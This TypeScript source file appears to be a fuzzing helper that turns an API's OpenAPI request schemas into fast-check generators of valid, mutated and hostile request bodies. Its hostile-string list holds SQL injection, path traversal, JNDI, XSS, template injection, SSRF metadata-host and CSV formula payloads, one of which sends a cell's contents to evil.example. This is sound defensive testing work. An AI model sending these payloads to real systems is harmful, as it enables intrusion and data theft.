// fast-check arbitraries derived from the OpenAPI (JSON Schema 2020-12 flavoured)
// request schemas: values that follow the schema, the same values mutated
// (fields dropped, unknown fields added, wrong types, huge strings, deep
// nesting, hostile unicode), and whole bodies that are not objects at all.
// Field-name hints let the generator speak the demo warehouse's vocabulary, so
// a fair share of requests reach the planner, the compiler and the database.
import fc from 'fast-check'

export interface JsonSchema {
  $ref?: string
  type?: string | string[]
  properties?: Record<string, JsonSchema>
  required?: string[]
  additionalProperties?: boolean | JsonSchema
  items?: JsonSchema
  minItems?: number
  maxItems?: number
  minLength?: number
  maxLength?: number
  pattern?: string
  format?: string
  enum?: unknown[]
  const?: unknown
  anyOf?: JsonSchema[]
  oneOf?: JsonSchema[]
  allOf?: JsonSchema[]
  minimum?: number
  maximum?: number
  exclusiveMinimum?: number
  exclusiveMaximum?: number
}

export type Components = Record<string, JsonSchema>

/** Field name → extra values worth trying for it (mixed with the schema's own). */
export type Hints = Record<string, fc.Arbitrary<unknown>>

const MAX_DEPTH = 8

export function resolve(schema: JsonSchema, components: Components): JsonSchema {
  let s = schema
  for (let i = 0; s.$ref && i < 20; i++) {
    const name = s.$ref.replace('#/components/schemas/', '')
    const target = components[name]
    if (!target) throw new Error(`fuzz: unresolved $ref ${s.$ref}`)
    s = { ...target, ...Object.fromEntries(Object.entries(s).filter(([k]) => k !== '$ref')) }
  }
  return s
}

/** Values that follow `schema` (best effort: patterns and formats included). */
export function validValue(schema: JsonSchema, components: Components, hints: Hints = {}, field?: string, depth = 0): fc.Arbitrary<unknown> {
  const own = schemaValue(resolve(schema, components), components, hints, depth)
  const hint = field ? hints[field] : undefined
  return hint ? fc.oneof({ arbitrary: hint, weight: 4 }, { arbitrary: own, weight: 1 }) : own
}

function schemaValue(s: JsonSchema, components: Components, hints: Hints, depth: number): fc.Arbitrary<unknown> {
  if (depth > MAX_DEPTH) return fc.constant(null)
  if (s.const !== undefined) return fc.constant(s.const)
  if (s.enum) return fc.constantFrom(...s.enum)
  const alts = s.anyOf ?? s.oneOf
  if (alts) return fc.oneof(...alts.map((a) => validValue(a, components, hints, undefined, depth + 1)))
  if (s.allOf?.length) return validValue(Object.assign({}, ...s.allOf.map((a) => resolve(a, components))), components, hints, undefined, depth + 1)
  const types = Array.isArray(s.type) ? s.type : s.type ? [s.type] : []
  if (types.length > 1) return fc.oneof(...types.map((type) => schemaValue({ ...s, type }, components, hints, depth)))
  switch (types[0]) {
    case 'string': return stringValue(s)
    case 'integer': {
      const min = s.minimum ?? (s.exclusiveMinimum !== undefined ? s.exclusiveMinimum + 1 : -1_000_000)
      const max = s.maximum ?? (s.exclusiveMaximum !== undefined ? s.exclusiveMaximum - 1 : 1_000_000)
      return fc.oneof(fc.integer({ min, max }), fc.constantFrom(min, max))
    }
    case 'number': return fc.double({ min: s.minimum ?? -1e9, max: s.maximum ?? 1e9, noNaN: true, noDefaultInfinity: true })
    case 'boolean': return fc.boolean()
    case 'null': return fc.constant(null)
    case 'array': {
      const item = s.items ? validValue(s.items, components, hints, undefined, depth + 1) : fc.jsonValue({ maxDepth: 2 })
      return fc.array(item, { minLength: s.minItems ?? 0, maxLength: Math.max(s.minItems ?? 0, Math.min(s.maxItems ?? 4, 4)) })
    }
    case 'object': {
      const props = s.properties ?? {}
      const record = fc.record(
        Object.fromEntries(Object.entries(props).map(([k, v]) => [k, validValue(v, components, hints, k, depth + 1)])),
        { requiredKeys: (s.required ?? []).filter((k) => k in props) },
      )
      if (s.additionalProperties && typeof s.additionalProperties === 'object' && Object.keys(props).length === 0) {
        // A free-form map (connection config, credentials, relation maps).
        const value = Object.keys(s.additionalProperties).length ? validValue(s.additionalProperties, components, hints, undefined, depth + 1) : fc.jsonValue({ maxDepth: 2 })
        return fc.dictionary(fc.string({ maxLength: 12 }), value, { maxKeys: 4 })
      }
      return record
    }
    default:
      return fc.jsonValue({ maxDepth: 3 })
  }
}

function stringValue(s: JsonSchema): fc.Arbitrary<string> {
  const min = s.minLength ?? 0
  const max = Math.min(s.maxLength ?? 40, 40)
  const fit = (a: fc.Arbitrary<string>) => a.filter((v) => v.length >= min && v.length <= (s.maxLength ?? Infinity))
  if (s.pattern) {
    try { return fit(fc.stringMatching(new RegExp(s.pattern))) } catch { /* an ECMAScript-incompatible pattern: fall through */ }
  }
  if (s.format === 'email') return fc.emailAddress()
  if (s.format === 'uri' || s.format === 'url') return fc.oneof(fc.webUrl(), fc.constantFrom('http://127.0.0.1:9/hook', 'https://10.0.0.1/x', 'http://169.254.169.254/latest/meta-data/', 'http://[::1]:1/'))
  return fc.oneof(
    fc.string({ minLength: min, maxLength: Math.max(min, max) }),
    fc.string({ unit: 'grapheme', minLength: min, maxLength: Math.max(min, max) }),
  )
}

// ---------------------------------------------------------------------------
// Hostile values

const deep = (depth: number, kind: 'array' | 'object'): unknown => {
  let v: unknown = 1
  for (let i = 0; i < depth; i++) v = kind === 'array' ? [v] : { a: v }
  return v
}

/** Strings that have broken parsers, databases and templating before. */
export const HOSTILE_STRINGS = [
  '', ' ', '\t\n', '0', '-1', 'null', 'undefined', 'true', 'NaN', '[]', '{}', '__proto__', 'constructor', 'prototype',
  '\u0000', 'a\u0000b', '\ud800', 'x\udfffy', '\ufeffbom', '\u202eevil', '\u200b', 'İı', 'ß', 'Ｓｅｌｅｃｔ', '👩‍👩‍👧‍👦', 'e\u0301', '\u0085',
  "'; DROP TABLE retail.orders; --", "' OR '1'='1", '" OR ""="', '\\', '\\\\\'', '%00', '%', '_', '*', '$1', '?', ':name', '@p1',
  '{{ Dimension(\'store__region\') }} = \'West\' OR 1=1', '{{ Metric(\'total_sales\', group_by=[\'store\']) }} > 0', '{{ }}', '{{', '}}', '{% raw %}',
  '{{ TimeDimension(\'metric_time\', \'day\') }} >= \'2026-01-01\'', '{{ Entity(\'store\') }}', '{{ Dimension(\'x\'.__class__) }}',
  '../../../../etc/passwd', '/etc/passwd', 'file:///etc/passwd', 'C:\\Windows\\win.ini', '${jndi:ldap://127.0.0.1/a}', '<script>alert(1)</script>',
  '1e309', '-0', '9007199254740993', '0x10', '1_000', '2026-02-30', '+275760-09-13', '0000-00-00', '99999-12-31', 'infinity', '-infinity', 'epoch', 'now', 'today',
  'SELECT 1; SELECT pg_sleep(10)', 'pg_read_file(\'/etc/passwd\')', 'COPY x TO PROGRAM \'id\'', 'metric_time__month', 'store__region', 'total_sales',
  // Spreadsheet formula payloads (CSV injection).
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1',
  // Host spellings that drivers parse their own way (SSRF): userinfo, paths, fragments, encodings, instances, numeric forms.
  'x@169.254.169.254', '169.254.169.254/latest/meta-data/#', '169.254.169.254%2e', '169.254.169.254\\SQLEXPRESS', '127.0.0.1.', '2130706433',
  '0x7f.1', '[::ffff:169.254.169.254]', 'localhost:5432', 'http://127.0.0.1', 'metadata.google.internal', 'nonexistent.invalid',
  // Expression fragments that try to leave their place in the compiled statement.
  "1=1) UNION SELECT 1 --", "kind, '", "x) FROM secret; --", "kind /* ", "LOAD_FILE('/etc/passwd')", "kind INTO OUTFILE '/tmp/x'", "$$x$$", "?", "@@version",
]
/** An object with tens of thousands of unknown fields (about 0.6 MB of JSON): answers must stay small. */
const manyUnknownFields = Object.fromEntries(Array.from({ length: 50_000 }, (_, i) => [`u${i}`, 0]))

const hugeString = fc.constantFrom(2_001, 10_001, 70_000, 300_000).chain((n) => fc.constantFrom('a', 'é', '\u0000', '{', '𝕏').map((c) => c.repeat(n)))

/** A single hostile JSON value. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_STRINGS), weight: 6 },
  { arbitrary: fc.constantFrom<unknown>(null, true, false, 0, -1, 1.5, -0, 1e308, -1e308, 2 ** 53 + 1, 2 ** 31, -(2 ** 31) - 1, 0.1 + 0.2), weight: 4 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 30 }), weight: 3 },
  { arbitrary: hugeString, weight: 1 },
  { arbitrary: fc.constantFrom(100, 1_000, 3_000).chain((d) => fc.constantFrom('array', 'object').map((k) => deep(d, k as 'array' | 'object'))), weight: 1 },
  { arbitrary: fc.constantFrom<unknown>([], {}, [null], [[]], { '': '' }, Array.from({ length: 5_000 }, (_, i) => i), Object.fromEntries(Array.from({ length: 2_000 }, (_, i) => [`k${i}`, i]))), weight: 2 },
  { arbitrary: fc.constant<unknown>(manyUnknownFields), weight: 1 },
  { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 3 },
)

type Path = Array<string | number>

function paths(v: unknown, prefix: Path = [], out: Path[] = [], limit = 200): Path[] {
  if (out.length >= limit) return out
  out.push(prefix)
  if (Array.isArray(v)) v.slice(0, 20).forEach((x, i) => paths(x, [...prefix, i], out, limit))
  else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) paths(x, [...prefix, k], out, limit)
  return out
}

function setAt(root: unknown, path: Path, fn: (v: unknown, parent: unknown, key: string | number | undefined) => unknown): unknown {
  if (path.length === 0) return fn(root, undefined, undefined)
  const copy: unknown = Array.isArray(root) ? [...root] : { ...(root as Record<string, unknown>) }
  const [head, ...rest] = path
  const c = copy as Record<string | number, unknown>
  const next = setAt(c[head], rest, fn)
  if (next === REMOVE) {
    if (Array.isArray(copy)) copy.splice(Number(head), 1)
    else delete c[head]
  } else Object.defineProperty(c, head, { value: next, enumerable: true, writable: true, configurable: true })
  return copy
}
const REMOVE = Symbol('remove')

/** Characters a text column or a parser may choke on, spliced into an otherwise valid string. */
const POISON = ['\u0000', '\ud800', '\udc00', '\ufffe', '\u0000\u0000', '\u202e', "'", '\\', '{{', '%', '\n--']

export type Mutation =
  | { op: 'poison'; at: number; poison: string; pos: number }
  | { op: 'remove'; at: number }
  | { op: 'replace'; at: number; value: unknown }
  | { op: 'add'; at: number; key: string; value: unknown }
  | { op: 'wrap'; at: number }
  | { op: 'stringify'; at: number }

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  { arbitrary: fc.record({ op: fc.constant('poison' as const), at: fc.nat(), poison: fc.constantFrom(...POISON), pos: fc.nat() }), weight: 3 },
  { arbitrary: fc.record({ op: fc.constant('remove' as const), at: fc.nat() }), weight: 2 },
  { arbitrary: fc.record({ op: fc.constant('replace' as const), at: fc.nat(), value: hostileValue }), weight: 5 },
  { arbitrary: fc.record({ op: fc.constant('add' as const), at: fc.nat(), key: fc.oneof(fc.constantFrom('__proto__', 'constructor', 'id', 'tenant_id', 'admin', 'scopes', ''), fc.string({ maxLength: 10 })), value: hostileValue }), weight: 2 },
  { arbitrary: fc.record({ op: fc.constant('wrap' as const), at: fc.nat() }), weight: 1 },
  { arbitrary: fc.record({ op: fc.constant('stringify' as const), at: fc.nat() }), weight: 1 },
)

const valueAt = (root: unknown, path: Path): unknown => path.reduce<unknown>((v, k) => (v as Record<string | number, unknown> | undefined)?.[k], root)

export function applyMutation(value: unknown, m: Mutation): unknown {
  let all = paths(value)
  // Poison lands on a string when there is one, so the rest of the body stays valid.
  if (m.op === 'poison') {
    const strings = all.filter((p) => typeof valueAt(value, p) === 'string')
    if (strings.length) all = strings
  }
  const path = all[m.at % all.length]
  return setAt(value, path, (v) => {
    switch (m.op) {
      case 'poison': {
        if (typeof v !== 'string') return m.poison
        const at = m.pos % (v.length + 1)
        return v.slice(0, at) + m.poison + v.slice(at)
      }
      case 'remove': return path.length ? REMOVE : undefined
      case 'replace': return m.value
      case 'wrap': return [v]
      case 'stringify': return JSON.stringify(v) ?? 'undefined'
      case 'add':
        if (v && typeof v === 'object' && !Array.isArray(v)) {
          const o = { ...(v as Record<string, unknown>) }
          // defineProperty so "__proto__" becomes an own key that JSON.stringify emits.
          Object.defineProperty(o, m.key, { value: m.value, enumerable: true, writable: true, configurable: true })
          return o
        }
        return Array.isArray(v) ? [...v, m.value] : m.value
    }
  })
}

/** A body for a route: valid, mutated, or not an object at all. */
export function bodyValue(schema: JsonSchema, components: Components, hints: Hints): fc.Arbitrary<unknown> {
  // Half the time only the required fields: fewer chances for an unrelated field to fail first.
  const resolved = resolve(schema, components)
  const required = new Set(resolved.required ?? [])
  const valid = fc.tuple(validValue(schema, components, hints), fc.boolean()).map(([v, minimal]) =>
    minimal && v && typeof v === 'object' && !Array.isArray(v) ? Object.fromEntries(Object.entries(v).filter(([k]) => required.has(k))) : v)
  return fc.oneof(
    { arbitrary: valid, weight: 3 },
    { arbitrary: fc.tuple(valid, fc.array(mutation, { minLength: 1, maxLength: 3 })).map(([v, ms]) => ms.reduce(applyMutation, v)), weight: 6 },
    { arbitrary: hostileValue, weight: 1 },
  )
}
